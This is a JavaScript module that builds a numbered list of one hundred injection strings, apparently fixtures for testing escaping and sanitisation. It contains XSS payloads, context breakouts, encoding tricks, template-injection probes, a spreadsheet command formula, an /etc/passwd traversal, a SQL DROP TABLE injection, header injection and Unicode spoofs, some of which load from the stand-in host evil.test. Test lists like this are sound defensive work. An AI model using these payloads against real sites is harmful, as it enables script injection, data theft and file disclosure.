// A hundred texts that would like to be more than text; each names itself by its number.

/** What would run if it were markup: every one calls `alert`, adds an element, or asks for something elsewhere. */
const MARKUP = [
  "<script>alert(N)</script>", "<ScRiPt>alert(N)</sCrIpT>", "<script src=//evil.test/N></script>", "<script>alert(N)//",
  "<img src=x onerror=alert(N)>", "<img src=//evil.test/N>", "<image href=x onerror=alert(N)>", "<img/src=x/onerror=alert(N)//>",
  "<svg onload=alert(N)>", "<svg/onload=alert(N)>", "<svg><script>alert(N)</script></svg>", "<svg><animate onbegin=alert(N) attributeName=x dur=1s>",
  "<svg><use href=//evil.test/N#x>", "<svg><a href=javascript:alert(N)><text>甲</text></a></svg>", "<math><mtext><img src=x onerror=alert(N)>",
  "<iframe src=javascript:alert(N)>", "<iframe srcdoc='<script>alert(N)</script>'>", "<iframe src=//evil.test/N>", "<object data=//evil.test/N>", "<embed src=//evil.test/N>",
  "<video src=x onerror=alert(N)>", "<audio src=x onerror=alert(N)>", "<video poster=//evil.test/N>", "<source src=//evil.test/N>",
  "<body onload=alert(N)>", "<details open ontoggle=alert(N)>", "<input autofocus onfocus=alert(N)>", "<select autofocus onfocus=alert(N)>",
  "<textarea autofocus onfocus=alert(N)>", "<marquee onstart=alert(N)>", "<a href=javascript:alert(N)>甲</a>", "<a href='java\tscript:alert(N)'>甲</a>",
  "<a href=data:text/html,<script>alert(N)</script>>甲</a>", "<form action=javascript:alert(N)><button>甲", "<button formaction=javascript:alert(N)>甲",
  "<base href=//evil.test/N/>", "<meta http-equiv=refresh content='0;url=//evil.test/N'>", "<link rel=stylesheet href=//evil.test/N>", "<link rel=preload as=script href=//evil.test/N>",
  "<style>@import '//evil.test/N'</style>", "<style>*{background:url(//evil.test/N)}</style>", "<div style=background:url(//evil.test/N)>", "<p style=position:fixed;inset:0>遮住</p>",
  "<template><script>alert(N)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(N)>'>", "<xmp><img src=x onerror=alert(N)></xmp>",
];
/** What would break out of where it is put. */
const BREAKOUTS = [
  "\"><script>alert(N)</script>", "'><script>alert(N)</script>", "\"><img src=x onerror=alert(N)>", "'><svg onload=alert(N)>", "\" onmouseover=\"alert(N)", "' onfocus='alert(N)' autofocus='",
  "` onclick=alert(N) `", "</title><script>alert(N)</script>", "</textarea><script>alert(N)</script>", "</script><script>alert(N)</script>", "</style><script>alert(N)</script>", "</option></select><img src=x onerror=alert(N)>",
  "--><script>alert(N)</script>", "]]><script>alert(N)</script>", "<!--<img src=\"--><img src=x onerror=alert(N)//\">", "\\\"><script>alert(N)</script>", "';alert(N);//", "\";alert(N);//", "</a><a href=javascript:alert(N)>",
];
/** What would be decoded once too often. */
const ENCODED = [
  "&lt;script&gt;alert(N)&lt;/script&gt;", "&#60;script&#62;alert(N)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(N)&#x3e;", "%3Cscript%3Ealert(N)%3C/script%3E", "%253Cscript%253Ealert(N)%253C/script%253E",
  "\\u003cscript\\u003ealert(N)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(N)", "+ADw-script+AD4-alert(N)+ADw-/script+AD4-", "＜script＞alert(N)＜/script＞", "‹script›alert(N)‹/script›", "<scr<script>ipt>alert(N)</scr</script>ipt>",
];
/** What templates and programs might read. */
const PROGRAMS = [
  "{{7*7}}N", "${7*7}N", "<%= 7*7 %>N", "#{7*7}N", "{% raw %}N", "{{constructor.constructor('alert(N)')()}}", "javascript:alert(N)", "vbscript:alert(N)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==N",
  "=cmd|' /C calc'!AN", "@SUM(1+N)", "../../etc/passwd#N", "__proto__N", "constructor.N", "'; DROP TABLE clauses; --N", "\\N\\r\\nSet-Cookie: a=b",
];
/** What nobody sees, or sees otherwise than it is. */
const UNSEEN = [
  "通知\u202Etxt.exe甲N", "\u2066甲N\u2069乙", "补\u200B贴N", "甲\uFEFF乙N", "\u200F甲N\u200E", "\u00AD甲\u2060N", "\u{E0041}\u{E0042}甲N", "а\u0301dmin甲N", "\u3164甲N",
];

export const PAYLOADS = [MARKUP, BREAKOUTS, ENCODED, PROGRAMS, UNSEEN].flat().map((text, index) => text.replaceAll("N", index + 1));
